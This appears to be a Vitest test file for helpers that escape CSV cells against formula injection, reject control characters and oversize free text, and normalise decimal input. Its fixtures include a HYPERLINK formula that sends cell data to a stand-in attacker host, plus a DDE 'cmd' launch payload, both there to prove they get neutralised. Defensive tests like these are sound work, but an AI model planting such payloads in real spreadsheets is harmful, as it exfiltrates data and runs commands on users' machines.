import { describe, expect, it } from 'vitest';
import { csvSafe, csvSafeRow, freeTextSchema, printable } from '../src/index.ts';

describe('CSV cells no spreadsheet evaluates (OWASP CSV injection)', () => {
  it('prefixes text that starts with = + - @ tab or CR with an apostrophe', () => {
    expect(csvSafe('=HYPERLINK("http://evil.example/?d="&A1,"西城区")')).toBe(
      `'=HYPERLINK("http://evil.example/?d="&A1,"西城区")`,
    );
    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvSafe(`${start}cmd|' /C calc'!A0`)).toMatch(/^'/);
  });

  it('leaves numbers and ordinary names alone', () => {
    expect(csvSafe('-5.2')).toBe('-5.2');
    expect(csvSafe('+3')).toBe('+3');
    expect(csvSafe('东城区')).toBe('东城区');
    expect(csvSafe(42)).toBe(42);
    expect(csvSafeRow({ name: '@SUM(1)', value: '-0.5' })).toEqual({ name: "'@SUM(1)", value: '-0.5' });
  });
});

describe('free text', () => {
  const reason = freeTextSchema(2_000, 'reason');
  it('refuses control characters (ESC, BEL) and says so', () => {
    const result = reason.safeParse('按台账更正\u001b[2J\u0007');
    expect(result.success).toBe(false);
    expect(result.error!.issues[0]!.message).toMatch(/control character/);
  });

  it('refuses more than its limit: a 900 KB reason is not kept forever', () => {
    expect(reason.safeParse('x'.repeat(900_000)).error!.issues[0]!.message).toBe(
      'the reason is longer than 2000 characters',
    );
    expect(reason.parse('  按台账更正  ')).toBe('按台账更正');
  });

  it('prints stored control characters as escapes, never to the terminal', () => {
    expect(printable('a\u001b[31mb\u0007')).toBe('a\\u{1b}[31mb\\u{7}');
  });
});

describe('decimals on input', () => {
  it('keeps one zero: -0 is 0 and -0.00 is 0.00', async () => {
    const { indicatorValueInputSchema } = await import('../src/index.ts');
    expect(indicatorValueInputSchema.parse('-0')).toBe('0');
    expect(indicatorValueInputSchema.parse('-0.00')).toBe('0.00');
    expect(indicatorValueInputSchema.parse('-0.5')).toBe('-0.5');
  });
});
